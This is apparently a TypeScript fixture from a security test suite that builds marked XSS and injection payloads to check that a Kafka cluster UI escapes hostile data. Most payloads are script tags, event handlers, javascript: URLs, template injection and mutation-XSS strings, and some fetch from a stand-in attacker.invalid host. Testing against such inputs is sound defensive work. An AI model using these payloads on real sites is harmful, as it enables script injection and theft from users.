// The hostile payloads of the security suite: strings a stranger can put in a cluster, each with its own marker.
// Every executable form calls window.__pwned('<marker>') or asks for https://<marker>.attacker.invalid/, so a
// payload that runs (or loads) names itself.

export interface Payload {
  /** Unique, e.g. "pwn-07"; appears in the payload's text and in what it would call or fetch. */
  marker: string;
  /** What kind of attack it is, for the report. */
  kind: string;
  text: string;
}

const call = (m: string) => `__pwned('${m}')`;
const remote = (m: string) => `https://${m}.attacker.invalid`;

/** Payload builders, in marker order; each gets its marker. */
const builders: ReadonlyArray<[kind: string, build: (m: string) => string]> = [
  ['script tag', (m) => `<script>${call(m)}</script>`],
  ['img onerror', (m) => `<img src=x onerror="${call(m)}">`],
  ['svg onload', (m) => `<svg onload="${call(m)}"></svg>`],
  ['svg script', (m) => `<svg><script>${call(m)}</script></svg>`],
  ['iframe srcdoc', (m) => `<iframe srcdoc="<script>parent.${call(m)}</script>"></iframe>`],
  ['anchor javascript: URL', (m) => `<a href="javascript:${call(m)}">open ${m}</a>`],
  ['bare javascript: URL', (m) => `javascript:${call(m)}`],
  ['markdown javascript: link', (m) => `[docs ${m}](javascript:${call(m)})`],
  ['markdown image, remote', (m) => `![chart ${m}](${remote(m)}/chart.png)`],
  ['inline style remote background', (m) => `<div style="background:url(${remote(m)}/bg.png)">${m}</div>`],
  ['style element breakout', (m) => `</style><style>body{background:url(${remote(m)}/css)}</style>`],
  ['CSS @import', (m) => `@import url(${remote(m)}/i.css); ${m}`],
  ['CSS expression()', (m) => `width: expression(${call(m)})`],
  ['template injection {{constructor}}', (m) => `{{constructor.constructor('${call(m).replaceAll("'", '"')}')()}}`],
  ['template literal ${}', (m) => `\${${call(m)}}`],
  ['server template <%= %>', (m) => `<%= ${call(m)} %> #{${call(m)}}`],
  ['double-bracket template', (m) => `[[\${${call(m)}}]] {{${call(m)}}}`],
  ['body onload', (m) => `<body onload="${call(m)}">`],
  ['input autofocus onfocus', (m) => `<input autofocus onfocus="${call(m)}">`],
  ['details ontoggle', (m) => `<details open ontoggle="${call(m)}"><summary>${m}</summary></details>`],
  ['video source onerror', (m) => `<video><source onerror="${call(m)}"></video>`],
  ['object data javascript:', (m) => `<object data="javascript:${call(m)}"></object>`],
  ['embed remote', (m) => `<embed src="${remote(m)}/e.swf">`],
  ['link stylesheet remote', (m) => `<link rel="stylesheet" href="${remote(m)}/s.css">`],
  ['meta refresh', (m) => `<meta http-equiv="refresh" content="0;url=javascript:${call(m)}">`],
  ['base href', (m) => `<base href="${remote(m)}/">`],
  ['attribute breakout double quote', (m) => `"><script>${call(m)}</script>`],
  ['attribute breakout single quote', (m) => `'><img src=x onerror=${call(m)}>`],
  ['textarea breakout', (m) => `</textarea><script>${call(m)}</script>`],
  ['title breakout', (m) => `</title><script>${call(m)}</script>`],
  ['mXSS math/style', (m) => `<math><mtext><table><mglyph><style><img src=x onerror="${call(m)}">`],
  ['noscript mXSS', (m) => `<noscript><p title="</noscript><img src=x onerror=${call(m)}>">`],
  ['form action javascript:', (m) => `<form action="javascript:${call(m)}"><button>${m}</button></form>`],
  ['data: URL html', (m) => `data:text/html,<script>${call(m)}</script>`],
  ['remote pixel', (m) => `<img src="${remote(m)}/pixel.gif">`],
  ['svg xlink javascript:', (m) => `<svg><a xlink:href="javascript:${call(m)}"><text x="0" y="15">${m}</text></a></svg>`],
  ['onclick on custom element', (m) => `<x-card onclick="${call(m)}">${m}</x-card>`],
  ['animation event', (m) => `<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart="${call(m)}">${m}</p>`],
  ['script closing breakout', (m) => `</script><script>${call(m)}</script>`],
  ['JS string breakout', (m) => `\\";${call(m)};//'-${call(m)}-'`],
  ['iframe javascript:', (m) => `<iframe src="javascript:${call(m)}"></iframe>`],
  ['anchor remote', (m) => `<a href="${remote(m)}/">external ${m}</a>`],
  ['img srcset remote', (m) => `<img srcset="${remote(m)}/1x.png 1x">`],
  ['svg animate onbegin', (m) => `<svg><animate onbegin="${call(m)}" attributeName="x" dur="1s"/></svg>`],
  ['marquee onstart', (m) => `<marquee onstart="${call(m)}">${m}</marquee>`],
  ['HTML-entity encoded', (m) => `&lt;img src=x onerror=${call(m)}&gt; &#60;script&#62;${call(m)}&#60;/script&#62;`],
  ['unicode-escaped', (m) => `\\u003cscript\\u003e${call(m)}\\u003c/script\\u003e`],
  ['vbscript: URL', (m) => `vbscript:msgbox("${m}")`],
  ['right-to-left override (U+202E)', (m) => `${m}-invoice\u202Eexe.pdf <b>${call(m)}</b>`],
  ['zero-width characters', (m) => `${m}\u200B<\u200Cscr\u200Dipt\uFEFF>${call(m)}</script>`],
  ['line and paragraph separators', (m) => `${m}\u2028');${call(m)};//\u2029`],
  ['NUL bytes', (m) => `${m}\u0000<script>${call(m)}</script>\u0000`],
  ['prototype keys', (m) => `__proto__ constructor prototype ${m} toString hasOwnProperty`],
  ['very long line', (m) => `${m}:${'A'.repeat(20_000)}<script>${call(m)}</script>`],
];

export const PAYLOADS: readonly Payload[] = builders.map(([kind, build], i) => {
  const marker = `pwn-${String(i + 1).padStart(2, '0')}`;
  return { marker, kind, text: build(marker) };
});

/** The 1 MB string (its own marker): placed as a record value, shown as the 64 KB preview the browser sends. */
export const ONE_MEGABYTE: Payload = (() => {
  const marker = 'pwn-mb';
  const head = `${marker} <img src=x onerror="${call(marker)}"> `;
  return { marker, kind: '1 MB string', text: head + 'B'.repeat(1024 * 1024 - head.length) };
})();

/** Bytes that are not UTF-8 around a payload: a lone 0xFF, an overlong form, a broken sequence. */
export function invalidUtf8(p: Payload): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xfe, 0xc0, 0xaf]), Buffer.from(p.text, 'utf8'), Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xed, 0xa0, 0x80])]);
}

export const byMarker = (marker: string): Payload => {
  const found = [...PAYLOADS, ONE_MEGABYTE].find((p) => p.marker === marker);
  if (!found) throw new Error(`no payload ${marker}`);
  return found;
};

/**
 * Topic names: Kafka allows only [A-Za-z0-9._-], up to 249 characters, so no markup can be a topic name. These
 * are the allowed-but-weird ones: prototype keys inside a name, a javascript-looking name, 249 characters.
 * A topic named exactly like an Object.prototype member is PROTOTYPE_TOPIC, kept apart (see the spec).
 */
export function weirdTopicNames(run: string): string[] {
  return [`pwn-${run}.javascript..alert.1`, `pwn-${run}.__proto__.constructor`, `pwn-${run}.hasOwnProperty.toString`, `pwn-${run}-${'x'.repeat(249 - `pwn-${run}-`.length)}`];
}

/** A name kafkajs trips on: its offset merge reads obj[topic] on a plain object, so "constructor" hits Object. */
export const PROTOTYPE_TOPIC = 'constructor';
